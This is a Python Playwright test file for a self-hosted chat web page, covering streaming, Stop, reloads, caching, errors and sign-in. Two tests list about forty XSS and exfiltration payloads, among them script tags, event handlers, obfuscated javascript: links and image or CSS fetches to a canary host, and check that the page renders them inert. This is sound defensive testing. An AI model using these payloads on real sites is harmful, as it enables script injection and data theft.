"""The chat page in headless Chromium: progressive rendering, Stop that always stops, nothing lost, nothing unsafe."""

import http.server
import os
import random
import signal
import statistics
import threading
import time

import pytest
import requests

from tests.browser import (
    ASSISTANT,
    POLL_MS,
    PageProblems,
    answer_text,
    last_answer,
    open_page,
    send,
    wait_status,
    wait_text_longer,
)
from tests.fake_upstream import Scenario
from tests.live import wait_until

pytestmark = [pytest.mark.live, pytest.mark.browser, pytest.mark.shared_servers]

# Every length the answer's text had while it streamed, recorded by the page itself: a MutationObserver on the
# messages, whose callback runs once per batch of changes (once per render), however slowly a test reads.
RECORD_LENGTHS = """() => {
  window.__lengths = [];
  const record = () => {
    const all = document.querySelectorAll("[data-role=assistant]");
    const answer = all[all.length - 1];
    if (!answer || answer.dataset.status !== "streaming") return;
    const length = answer.querySelector(".content").textContent.length;
    if (length !== window.__lengths[window.__lengths.length - 1]) window.__lengths.push(length);
  };
  new MutationObserver(record).observe(document.body, {childList: true, subtree: true, characterData: true});
  record();
}"""


def test_tokens_appear_as_they_arrive(jarvis, upstream, context):
    upstream.scenario = Scenario(tokens=80, interval=0.05)
    page, problems = open_page(context, jarvis.url)
    page.evaluate(RECORD_LENGTHS)
    send(page, "stream please")
    wait_status(page, "complete")
    final = last_answer(page).locator(".content").inner_text().strip()
    assert final == " ".join(f"w{i}" for i in range(80))
    # 80 tokens 50 ms apart, drawn at most every 50 ms (RENDER_EVERY_MS) or four times the last render's
    # time: up to ~80 lengths while it streams, 20 even at a quarter of this machine's speed. A page that
    # shows the answer only at its end shows none; one drawing once a second, at most 5 in the 4 s. (Read
    # by the test, two Playwright calls a sample, the count measured the machine: ~200 ms a sample at half
    # speed.) And the first text before half the answer has come.
    shown = [length for length in page.evaluate("window.__lengths") if length]
    assert len(shown) >= 10 and shown[0] < len(final) / 2, shown
    problems.assert_clean()


@pytest.mark.long
@pytest.mark.timeout(240)
def test_send_then_stop_a_dozen_times(jarvis, upstream, context):
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    page, problems = open_page(context, jarvis.url)
    # Twelve Stops, twice Chromium's six connections to a host (a stream left open by a Stop would hang a later
    # send), each wait before the Stop twice and none four times, in a fixed shuffled order. Twenty random
    # draws cost 6.6 CPU-s in the parallel phase, and their first twelve left one wait out.
    waits = [0, 0, 0, 0, 1, 1, 3, 3, 8, 8, 15, 15]
    random.Random(4).shuffle(waits)
    stop_to_cancel = []
    for run, wait_tokens in enumerate(waits):
        send(page, f"prompt {run}")
        page.wait_for_selector(f"{ASSISTANT}[data-status=streaming] >> nth=-1")
        if wait_tokens:
            wait_text_longer(page, 3 * wait_tokens)
        exchange = upstream.wait_for_exchange(run + 1)
        clicked = time.monotonic()
        page.get_by_role("button", name="Stop", exact=True).click()
        wait_status(page, "stopped")
        upstream.wait_until_ended(exchange, timeout=5)
        assert exchange.closed_at is not None, f"run {run}: the upstream was not cancelled"
        stop_to_cancel.append(exchange.closed_at - clicked)
        if wait_tokens:
            assert last_answer(page).locator(".content").inner_text().strip(), f"run {run} lost its text"
        page.wait_for_selector("#send:not([disabled])")
    server_side = [float(line.split("cancel_ms=")[1]) for line in jarvis.end_lines() if "cancel_ms=" in line]
    print(f"Stop click (Playwright click included) -> upstream closed: p50 "
          f"{statistics.median(stop_to_cancel) * 1000:.1f} ms, max {max(stop_to_cancel) * 1000:.1f} ms; "
          f"server: client gone -> upstream closed p50 {statistics.median(server_side):.1f} ms, "
          f"max {max(server_side):.1f} ms over {len(server_side)} stops")
    assert page.locator(f"{ASSISTANT}[data-status=stopped]").count() == len(waits)
    upstream.scenario = Scenario(tokens=5)
    send(page, "and now a whole answer")
    wait_status(page, "complete")  # no connection-cap hang after a dozen stops
    assert last_answer(page).locator(".content").inner_text().strip() == "w0 w1 w2 w3 w4"
    # Each question and answer shown once, named by the server (a Stop before the first response came
    # used to leave an unnamed copy, shown again below each later answer).
    page.wait_for_function(f"() => ({SHOWN_MESSAGES})().every(([, id]) => id !== null)", polling=POLL_MS,
                           timeout=10_000)
    assert len(page.evaluate(SHOWN_MESSAGES)) == 2 * (len(waits) + 1)
    problems.assert_clean()


SHOWN_MESSAGES = """() => Array.from(document.querySelectorAll("#messages > [data-role]")).map((element) => [
  element.dataset.role, element.dataset.id ?? null, element.querySelector(".content").textContent.trim()])"""


def test_a_stop_before_the_answers_first_response_leaves_no_copy_behind(jarvis, upstream, context):
    # The upstream takes the request but would answer only 10 s later (a server loading its model), so
    # Jarvis's response (with the new messages' ids) has not reached the page when Stop is clicked. The
    # page must still learn which messages its question and answer are: a page that dropped the response
    # kept them unnamed, and every later answer's end put that unnamed pair back at the bottom of the
    # conversation — an empty stopped answer and a second copy of the question below the newest answer.
    page, problems = open_page(context, jarvis.url)
    upstream.scenario = Scenario(tokens=400, interval=0.02, headers_delay=10.0)  # (the model list came at once)
    send(page, "stopped at once")
    exchange = upstream.wait_for_exchange(1)
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_status(page, "stopped")
    upstream.wait_until_ended(exchange, timeout=5)
    assert exchange.closed_at is not None, "the upstream was not cancelled"
    upstream.scenario = Scenario(tokens=5)
    send(page, "and now a whole answer")
    wait_status(page, "complete")
    expected = [["user", "stopped at once"], ["assistant", ""], ["user", "and now a whole answer"],
                ["assistant", "w0 w1 w2 w3 w4"]]
    # The answer's end brings the page in line with the server (every message named by its id).
    page.wait_for_function(f"() => ({SHOWN_MESSAGES})().every(([, id]) => id !== null)", polling=POLL_MS,
                           timeout=10_000)
    shown = page.evaluate(SHOWN_MESSAGES)
    assert [[role, text] for role, _, text in shown] == expected, shown
    conversation, = requests.get(f"{jarvis.url}/api/conversations", timeout=5).json()["data"]
    saved = requests.get(f"{jarvis.url}/api/conversations/{conversation['id']}", timeout=5).json()["messages"]
    assert [str(message["id"]) for message in saved] == [id for _, id, _ in shown]
    assert saved[1]["status"] == "stopped"
    problems.assert_clean()



def test_a_stop_whose_answer_never_got_a_first_response_still_stops_and_keeps_the_page_in_order(jarvis, upstream,
                                                                                             context):
    # The send never reaches the server (held here, as a proxy that stalls would): Stop cannot learn its ids,
    # and stops reading after a few seconds anyway. The question stays where it was asked, unnamed.
    page, problems = open_page(context, jarvis.url)
    held = []
    page.route("**/messages", lambda route: held.append(route))
    with page.expect_request("**/messages"):
        send(page, "into the void")
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_status(page, "stopped", timeout=30)
    page.unroute("**/messages")
    upstream.scenario = Scenario(tokens=5)
    send(page, "and now a whole answer")
    wait_status(page, "complete")
    # The answer's end brings the page in line with the server, then offers to regenerate the last answer.
    last_answer(page).get_by_role("button", name="Regenerate").wait_for()
    shown = page.evaluate(SHOWN_MESSAGES)
    assert [[role, text] for role, _, text in shown] == [
        ["user", "into the void"], ["assistant", ""], ["user", "and now a whole answer"],
        ["assistant", "w0 w1 w2 w3 w4"]], shown
    assert len(held) == 1  # and the server never saw it
    problems.assert_clean()

def start_a_long_answer(context, jarvis, upstream, prompt: str):
    """Open the page and send a prompt whose answer streams for seconds; return once text shows."""
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    page, problems = open_page(context, jarvis.url)
    send(page, prompt)
    wait_text_longer(page, 20)
    return page, problems


def test_reload_after_stop_keeps_the_partial_answer(jarvis, upstream, context):
    page, problems = start_a_long_answer(context, jarvis, upstream, "tell me")
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_status(page, "stopped")
    shown = last_answer(page).locator(".content").inner_text()
    upstream.wait_until_ended(upstream.chats[0])
    jarvis.wait_for_log("outcome=stopped")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    wait_status(page, "stopped")
    assert last_answer(page).locator(".content").inner_text().startswith(shown.strip())
    assert page.locator("[data-role=user]").inner_text().startswith("tell me")
    problems.assert_clean()


def test_a_reload_takes_every_file_of_the_page_from_the_cache(jarvis, context):
    """The page's files are versioned and kept (jarvis/page.py): a reload fetches none of them again, not
    even to hear 304 (a transfer size of 0 is the browser's cache; a revalidation's is its headers)."""
    page, problems = open_page(context, jarvis.url)
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    files = page.evaluate("() => performance.getEntriesByType('resource').filter((entry) =>"
                          " new URL(entry.name).pathname.startsWith('/static/'))"
                          ".map((entry) => [new URL(entry.name).pathname, entry.transferSize, entry.decodedBodySize])")
    assert len(files) >= 20, files  # its modules, the libraries and the style sheets
    fetched = [(path, size) for path, size, body in files if size != 0 or body == 0 or "/static/v/" not in path]
    assert fetched == [], fetched
    problems.assert_clean()


def test_a_selection_and_the_keyboards_place_outlive_the_next_answers_end(jarvis, upstream, context):
    """Reading while an answer streams: text selected in an earlier message (to copy it) is still selected,
    and a sidebar button a keyboard user has tabbed to still has the focus, when the answer ends and the
    page brings its message list (message-list.js) and its conversation list (conversation-list.js) in line
    with the server's."""
    upstream.scenario = Scenario(tokens=3)
    page, problems = open_page(context, jarvis.url)
    send(page, "first question")
    wait_status(page, "complete")
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    send(page, "second question")
    wait_text_longer(page, 10)
    selected = page.evaluate("""() => {
        const first = document.querySelectorAll('[data-role=assistant] .content')[0];
        const range = document.createRange();
        range.selectNodeContents(first);
        getSelection().removeAllRanges();
        getSelection().addRange(range);
        return getSelection().toString();
    }""")
    assert selected.strip() == "w0 w1 w2"
    # The keyboard's place: the conversation's Rename button in the sidebar (the conversation is marked as
    # answering now; its mark and Stop button go when the answer ends).
    page.locator("#conversation-list li.running").wait_for()
    page.evaluate("document.querySelector('#conversation-list li.running [aria-label^=Rename]').focus()")
    # The answer ends (stopped); the page reads the conversation from the server, brings its list in line,
    # then asks for the conversation list: once that is answered and shown, both lists are in line.
    with page.expect_response(lambda response: response.request.method == "GET"
                              and response.url.endswith("/api/conversations")):
        page.evaluate("document.querySelector('#stop').click()")  # (a click would move the focus)
    page.wait_for_function("() => !document.querySelector('#conversation-list li.running')")
    wait_status(page, "stopped")
    assert page.evaluate("getSelection().toString()") == selected
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rename first question"
    problems.assert_clean()


def test_upstream_error_mid_stream_is_shown_inline_and_the_page_stays_usable(jarvis, upstream, context):
    upstream.scenario = Scenario(tokens=10, error_event_after=3)
    page, problems = open_page(context, jarvis.url)
    send(page, "break please")
    wait_status(page, "error")
    note = last_answer(page).locator(".error").inner_text()
    assert "the model crashed" in note and "trace" in note
    assert last_answer(page).locator(".content").inner_text().strip() == "w0 w1 w2"
    upstream.scenario = Scenario(tokens=2)
    send(page, "again")
    wait_status(page, "complete")
    problems.assert_clean()


def test_upstream_stall_ends_with_an_inline_error(start_jarvis, upstream, context):
    jarvis = start_jarvis({"JARVIS_STREAM_INACTIVITY_SECONDS": "1", "JARVIS_HEARTBEAT_SECONDS": "0.3"})
    upstream.scenario = Scenario(tokens=10, stall_after=2)
    page, problems = open_page(context, jarvis.url)
    send(page, "stall please")
    wait_status(page, "error")
    assert "JARVIS_STREAM_INACTIVITY_SECONDS" in last_answer(page).locator(".error").inner_text()
    upstream.scenario = Scenario(tokens=2)
    send(page, "again")
    wait_status(page, "complete")
    problems.assert_clean()


class _Canary(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's naming)
        _Canary.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def canary():
    _Canary.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Canary)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_hostile_answer_renders_inert(jarvis, upstream, context, canary):
    hostile = "\n\n".join([
        "<script>window.__pwned = 'script'</script>",
        "<img src=x onerror=\"window.__pwned = 'img'\">",
        "[click me](javascript:window.__pwned='link')",
        "[sneaky](JaVaScRiPt&#58;window.__pwned='entity')",
        f"![exfiltrate]({canary}/leak.png?conversation=secret)",
        f"<img src=\"{canary}/html-img.png\" srcset=\"{canary}/srcset.png 2x\">",
        f"<div style=\"background:url({canary}/css.png)\">styled</div>",
        "<svg onload=\"window.__pwned='svg'\"><circle r=5></circle></svg>",
        "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
        "[data](data:text/html,<script>alert(1)</script>)",
    ])
    upstream.scenario = Scenario(content=hostile)
    page, problems = open_page(context, jarvis.url)
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    send(page, "be hostile")
    wait_status(page, "complete")
    answer = last_answer(page)
    for link in answer.locator("a").all():
        href = link.get_attribute("href")
        assert href is None or href.startswith(("http:", "https:", "mailto:")), href
        if href is not None:
            assert link.get_attribute("rel") == "noopener noreferrer"
    assert answer.locator("img, script, iframe, svg, [style]").count() == 0
    for link in answer.locator("a:not([href])").all():
        link.click()  # a javascript: link that lost its href does nothing
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    wait_status(page, "complete")
    assert page.evaluate("window.__pwned") is None
    assert _Canary.requests == []
    assert not [url for url in requested if not url.startswith(jarvis.url)]
    placeholder = page.locator(".image-placeholder").first
    assert "click to open" in placeholder.inner_text()
    problems.assert_clean()


def test_page_is_usable_on_a_phone_in_dark_mode(jarvis, upstream, browser):
    phone = browser.new_context(viewport={"width": 390, "height": 760}, color_scheme="dark")
    try:
        page, problems = open_page(phone, jarvis.url)
        send(page, "hello from a phone")
        wait_status(page, "complete")
        assert page.locator("#send").bounding_box()["x"] + page.locator("#send").bounding_box()["width"] <= 390
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert background == "rgb(22, 22, 26)"
        assert not page.locator("#sidebar").is_visible() or \
            page.locator("#sidebar").bounding_box()["x"] < 0
        page.get_by_role("button", name="Show conversations").click()
        page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().x >= 0")
        assert page.locator("nav[aria-label=Conversations] li").count() == 1
        problems.assert_clean()
    finally:
        phone.close()


def test_keyboard_enter_sends_shift_enter_adds_a_line_escape_stops(jarvis, upstream, context):
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    page, problems = open_page(context, jarvis.url)
    box = page.get_by_label("Message")
    box.fill("line one")
    box.press("Shift+Enter")
    box.type("line two")
    assert box.input_value() == "line one\nline two"
    box.press("Enter")
    page.wait_for_selector(f"{ASSISTANT}[data-status=streaming]")
    assert page.locator("[data-role=user]").inner_text().startswith("line one\nline two")
    assert page.get_by_role("button", name="Stop", exact=True).is_enabled()
    page.keyboard.press("Escape")
    wait_status(page, "stopped")
    assert not page.get_by_role("button", name="Stop", exact=True).is_enabled()
    problems.assert_clean()


def answer_is(page, text: str):
    page.wait_for_function(f"() => {{ const all = document.querySelectorAll('{ASSISTANT} .content');"
                           f" return all.length && all[all.length - 1].textContent.trim() === {text!r}; }}")


def test_regenerate_and_edit_keep_versions_the_page_can_switch_between_and_a_stopped_answer_continues(
        jarvis, upstream, context):
    upstream.scenario = Scenario(tokens=3)
    page, problems = open_page(context, jarvis.url)
    send(page, "first question")
    wait_status(page, "complete")
    upstream.scenario = Scenario(tokens=2)
    page.get_by_role("button", name="Regenerate").click()
    answer_is(page, "w0 w1")
    wait_status(page, "complete")
    assert page.locator(ASSISTANT).count() == 1
    versions = last_answer(page).locator(".versions")
    versions.locator(".version", has_text="2/2").wait_for()
    versions.get_by_role("button", name="Previous version").click()
    answer_is(page, "w0 w1 w2")  # the first version, as the upstream sent it
    assert versions.locator(".version").inner_text() == "1/2"
    versions.get_by_role("button", name="Next version").click()
    answer_is(page, "w0 w1")
    page.get_by_role("button", name="Edit").click()
    box = page.get_by_label("Message")
    assert box.input_value() == "first question"
    box.fill("edited question")
    page.get_by_role("button", name="Send").click()
    page.wait_for_function("() => document.querySelectorAll('[data-role=user]').length === 1 && "
                           "document.querySelector('[data-role=user] .content').textContent === 'edited question'")
    wait_status(page, "complete")
    assert [m["content"] for m in upstream.chats[-1].body["messages"]] == ["edited question"]
    question = page.locator("[data-role=user]")
    question.locator(".version", has_text="2/2").wait_for()
    question.get_by_role("button", name="Previous version").click()  # the first question, with its answers
    page.wait_for_function("() => document.querySelector('[data-role=user] .content').textContent === "
                           "'first question'")
    answer_is(page, "w0 w1")
    # A stopped answer continues: the same message grows, the upstream asked with its text as the prefix.
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    send(page, "a long one")
    wait_text_longer(page, 10)
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_status(page, "stopped")
    kept = answer_text(page)
    upstream.scenario = Scenario(content="and so on.")
    last_answer(page).get_by_role("button", name="Continue").click()
    wait_status(page, "complete")
    prefix = upstream.chats[-1].body["messages"][-1]
    # What the server saved, sent back; the page stopped reading at Stop, so it may have shown less, and
    # got the rest first.
    assert prefix["role"] == "assistant" and prefix["content"].startswith(kept)
    assert answer_text(page) == (prefix["content"] + "and so on.").strip()
    assert page.locator(ASSISTANT).count() == 2
    assert last_answer(page).get_by_role("button", name="Continue").count() == 0
    # A server that answers afresh instead of continuing (as llama-cpp-python's does) although it passed
    # Jarvis's probe: its fresh answer is dropped, the page says why, the answer stays as it was; Continue
    # again is refused at once (the model's server is now known not to continue), and the page says that.
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    send(page, "one more")
    wait_text_longer(page, 10)
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_status(page, "stopped")
    upstream.scenario = Scenario(tokens=40, continues="no")  # "w0 w1 ...": the old answer's start again
    for told in ("answered afresh instead of continuing", "cannot continue an answer"):
        last_answer(page).get_by_role("button", name="Continue").click()
        last_answer(page).locator(".error", has_text=told).wait_for()
        newest = requests.get(jarvis.url + "/api/conversations", timeout=5).json()["data"][0]["id"]
        saved = requests.get(f"{jarvis.url}/api/conversations/{newest}", timeout=5).json()["messages"][-1]
        assert saved["status"] == "stopped" and answer_text(page) == saved["content"].strip()
    assert [error.split(" (http")[0] for error in problems.console_errors] == [
        "Failed to load resource: the server responded with a status of 400 (BAD REQUEST)"]  # the refused Continue
    assert problems.console_errors[0].endswith("/messages)"), problems.console_errors  # and nothing else
    assert problems.page_errors == [] and problems.rejections() == []


def test_model_picker_lists_the_backend_models(jarvis, upstream, context):
    page, problems = open_page(context, jarvis.url)
    assert page.locator("#model option").all_inner_texts() == ["fake-model"]
    send(page, "hi")
    wait_status(page, "complete")
    assert upstream.chats[0].body["model"] == "fake-model"
    problems.assert_clean()


def hostile_corpus(canary: str) -> list[str]:
    """At least 30 model outputs that try to run script or make the browser fetch something."""
    pwn = "window.__pwned=1"
    return [
        f"<script>{pwn}</script>",
        f"<SCRIPT SRC={canary}/script.js></SCRIPT>",
        f"<img src=x onerror=\"{pwn}\">",
        f"<img src=\"{canary}/img.png\">",
        f"<img srcset=\"{canary}/srcset.png 2x\">",
        f"<picture><source srcset=\"{canary}/source.png\"><img></picture>",
        f"![markdown image]({canary}/md.png)",
        f"![protocol relative](//{canary.split('//')[1]}/pr.png)",
        f"[![image in link]({canary}/nested.png)](https://example.org)",
        f"[click](javascript:{pwn})",
        f"[mixed case](JaVaScRiPt:{pwn})",
        f"[entity](&#106;avascript:{pwn})",
        f"[named entity](javascript&colon;{pwn})",
        f"[tab](java\tscript:{pwn})",
        f"<a href=\"  javascript:{pwn}\">spaces</a>",
        f"<a href=\"vbscript:{pwn}\">vb</a>",
        "[data html](data:text/html,<script>alert(1)</script>)",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">b64</a>",
        f"<javascript:{pwn}>",
        f"[ref][1]\n\n[1]: javascript:{pwn}",
        f"<svg onload=\"{pwn}\"><circle r=5></circle></svg>",
        f"<svg><image href=\"{canary}/svg-image.png\"/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{pwn}\">",
        f"<div style=\"background:url({canary}/css.png)\">styled</div>",
        f"<style>@import url({canary}/import.css); body{{background:url({canary}/bg.png)}}</style>",
        f"<link rel=stylesheet href=\"{canary}/link.css\">",
        "<iframe src=\"javascript:parent.__pwned=1\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
        f"<object data=\"{canary}/object.swf\"></object><embed src=\"{canary}/embed.swf\">",
        f"<meta http-equiv=\"refresh\" content=\"0;url={canary}/refresh\">",
        f"<base href=\"{canary}/\"><a href=\"relative\">base</a>",
        f"<form action=\"{canary}/form\"><button>go</button></form>",
        f"<details open ontoggle=\"{pwn}\"><summary>x</summary></details>",
        f"<input autofocus onfocus=\"{pwn}\">",
        f"<video poster=\"{canary}/poster.png\"><source src=\"{canary}/video.mp4\"></video>",
        f"<noscript><p title=\"</noscript><img src=x onerror={pwn}>\"></noscript>",
        f"<a href=\"https://ok.example\" onclick=\"{pwn}\">handler on a good link</a>",
        f"```html\n<script>{pwn}</script>\n```",
        f"<scr<script>ipt>{pwn}</scr</script>ipt>",
        f"<img src=\"data:image/svg+xml,<svg onload='{pwn}'/>\">",
    ]


def test_hostile_corpus_renders_inert(jarvis, upstream, context, canary):
    corpus = hostile_corpus(canary)
    assert len(corpus) >= 30
    page, problems = open_page(context, jarvis.url)
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    rendered = page.evaluate("""async (corpus) => {
        const page = document.querySelector('script[type=module]').src;  // the page's own module
        const { renderMarkdown } = await import(new URL('../markdown.js', page));
        const results = [];
        for (const text of corpus) {
            const holder = document.createElement('div');
            holder.className = 'message assistant';
            holder.append(renderMarkdown(text));
            document.querySelector('#messages').append(holder);
            results.push(holder.innerHTML);
        }
        return results;
    }""", corpus)
    for element in page.locator("#messages a").all():
        href = element.get_attribute("href")
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href
    dangerous = "script, iframe, object, embed, img, svg, math, style, link, meta, base, form, input, video, " \
                "picture, source, [style], [onerror], [onload], [onclick], [onfocus], [ontoggle], [srcset]"
    inside = ", ".join(f"#messages {selector.strip()}" for selector in dangerous.split(","))
    assert page.locator(inside).count() == 0, rendered
    for button in page.locator(".image-placeholder").all():
        assert "click to open" in button.inner_text() or "(blocked)" in button.inner_text()
    page.get_by_label("Message").focus()  # give autofocus/ontoggle tricks their moment, then look
    page.wait_for_function("() => document.readyState === 'complete'")
    assert page.evaluate("window.__pwned") is None
    assert _Canary.requests == []
    assert not [url for url in requested if not url.startswith(jarvis.url)], requested
    problems.assert_clean()


def test_page_asks_for_the_api_key_once(start_jarvis, upstream, context):
    key = "page-key-0123456789abcdef"
    jarvis = start_jarvis({"JARVIS_API_KEY": key})
    page = context.new_page()
    problems = PageProblems(page)
    page.goto(jarvis.url)
    page.get_by_label("API key", exact=True).fill("not the key at all")
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_selector("#sign-in-error:not([hidden])")
    assert "not the API key" in page.locator("#sign-in-error").inner_text()
    page.get_by_label("API key", exact=True).fill(key)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_selector("body[data-ready=true]")
    send(page, "hello after signing in")
    wait_status(page, "complete")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")  # the session cookie: no second prompt
    assert page.locator("#sign-in").is_hidden()
    cookie = next(c for c in context.cookies() if c["name"] == "jarvis_session")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert [m for m in problems.console_errors if "401" not in m] == []
    assert problems.page_errors == [] and problems.rejections() == []


def test_a_stream_cut_without_done_is_shown_as_interrupted(jarvis, upstream, context):
    """If Jarvis itself dies mid-answer (kill -9 of the worker), the page says so instead of hanging."""
    page, problems = start_a_long_answer(context, jarvis, upstream, "long answer please")
    killed = jarvis.worker().pid
    os.kill(killed, signal.SIGKILL)
    wait_status(page, "interrupted")
    assert "Interrupted" in last_answer(page).locator(".error").inner_text()
    assert last_answer(page).locator(".content").inner_text().strip()
    wait_until(lambda: [worker.pid for worker in jarvis.workers()] not in ([], [killed]), 10,
               lambda: f"no worker booted after {killed} was killed:\n{jarvis.log()[-2000:]}")
    page.wait_for_selector("#send:not([disabled])")
    assert requests.get(jarvis.url + "/healthz", timeout=10).ok  # the replacement worker is serving
    assert problems.page_errors == [] and problems.rejections() == []


def test_new_chat_stores_nothing_until_a_message_is_sent_and_a_stop_from_the_list_clears_its_mark(
        start_jarvis, upstream, context):
    jarvis = start_jarvis(args=["-w", "2"])  # the Stop and the list may reach the worker not running it
    page, problems = open_page(context, jarvis.url)
    for _ in range(3):
        page.get_by_role("button", name="+ New chat").click()
    page.get_by_label("Message").wait_for()
    assert requests.get(jarvis.url + "/api/conversations", timeout=5).json()["data"] == []
    assert page.locator("#conversation-list li").count() == 0
    upstream.scenario = Scenario(tokens=400, interval=0.02)
    send(page, "a long one")
    page.locator("#conversation-list li.running").wait_for(timeout=5000)  # listed as soon as it started
    wait_text_longer(page, 10)
    page.get_by_role("button", name="+ New chat").click()  # it runs on, unwatched, marked in the list
    page.locator("#conversation-list li.running").get_by_role("button", name="Stop the answer in a long one").click()
    # The mark follows the run's end: gone with the list the Stop refreshes (it stayed until the next
    # refresh when the list was read before the answer's last save).
    page.wait_for_function("() => !document.querySelector('#conversation-list li.running')", timeout=3000)
    assert [c["running"] for c in requests.get(jarvis.url + "/api/conversations", timeout=5).json()["data"]] == [False]
    problems.assert_clean()
